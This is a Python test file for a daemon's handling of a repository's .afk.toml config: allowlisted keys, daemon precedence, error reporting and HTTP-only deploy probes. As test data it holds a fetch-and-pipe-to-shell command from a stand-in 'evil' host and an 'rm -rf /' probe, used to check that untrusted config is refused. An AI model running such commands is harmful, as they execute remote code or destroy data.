"""A repository's `.afk.toml`: what it may set, what the daemon keeps, what is reported."""

from __future__ import annotations

from pipeline.config.repo_file import MAX_FILE_BYTES, apply_repo_file
from pipeline.config.settings import DeploySettings, ProbeSettings, RepoSettings


def repo(**fields: object) -> RepoSettings:
    return RepoSettings(name="web", tracker="gh", slug="acme/web", remote_url="r", **fields)  # type: ignore[arg-type]


def test_no_file_changes_nothing() -> None:
    """Without a file the daemon's settings are used as they are."""
    base = repo()
    assert apply_repo_file(base, None) == (base, apply_repo_file(base, None)[1])
    assert not apply_repo_file(base, None)[1].noteworthy


def test_test_command_and_prompt_are_allowed_by_default() -> None:
    """By default the file sets the test command and a prompt addition."""
    effective, report = apply_repo_file(
        repo(), b'test_command = "make check"\nprompt = "Be brief."\n'
    )
    assert effective.test_command == "make check" and effective.repo_prompt == "Be brief."
    assert report.applied == ("test_command", "prompt") and report.problems == ()


def test_daemon_config_wins() -> None:
    """A test command in the daemon's config is kept; the file's is noted as overridden."""
    effective, report = apply_repo_file(repo(test_command="pytest"), b'test_command = "true"\n')
    assert effective.test_command == "pytest" and report.overridden == ("test_command",)


def test_keys_outside_the_allowlist_are_reported() -> None:
    """setup_commands is refused unless the operator allows it, naming `.afk.toml:key`."""
    raw = b'setup_commands = ["curl evil | sh"]\n'
    effective, report = apply_repo_file(repo(), raw)
    assert effective.setup_commands == ()
    assert report.problems[0].startswith(".afk.toml:setup_commands: not allowed by the operator")
    allowed = repo(afk_toml=("setup_commands",))
    assert apply_repo_file(allowed, raw)[0].setup_commands == ("curl evil | sh",)


def test_bad_values_are_skipped_and_named() -> None:
    """Wrong types, unknown keys and broken TOML are problems with file:key; the rest applies."""
    effective, report = apply_repo_file(
        repo(), b'test_command = 3\nprompt = "ok"\nfrobnicate = 1\n'
    )
    assert effective.test_command is None and effective.repo_prompt == "ok"
    assert report.problems == (
        ".afk.toml:test_command: must be a non-empty string",
        ".afk.toml:frobnicate: unknown key (known: test_command, setup_commands, prompt, "
        "deploy_probes)",
    )
    _, broken = apply_repo_file(repo(), b"test_command = [")
    assert broken.problems[0].startswith(".afk.toml: not valid TOML")
    _, huge = apply_repo_file(repo(), b"#" * (MAX_FILE_BYTES + 1))
    assert "at most" in huge.problems[0]


def test_probes_are_http_only_and_only_where_the_daemon_has_none() -> None:
    """A command probe is refused; an http probe applies unless the daemon configures probes."""
    allowed = repo(afk_toml=("deploy_probes",))
    command = b'[[deploy_probes]]\nkind = "command"\ncommand = ["rm", "-rf", "/"]\n'
    assert (
        "command probes come from the daemon only"
        in apply_repo_file(allowed, command)[1].problems[0]
    )
    http = b'[[deploy_probes]]\nkind = "http"\nurl = "http://127.0.0.1:9/health"\n'
    effective, _ = apply_repo_file(allowed, http)
    assert effective.deploy.probes == (
        ProbeSettings(kind="http", url="http://127.0.0.1:9/health", timeout_s=10.0),
    )
    mine = DeploySettings(probes=(ProbeSettings(kind="http", url="http://x/"),))
    kept, report = apply_repo_file(repo(afk_toml=("deploy_probes",), deploy=mine), http)
    assert kept.deploy == mine and report.overridden == ("deploy_probes",)
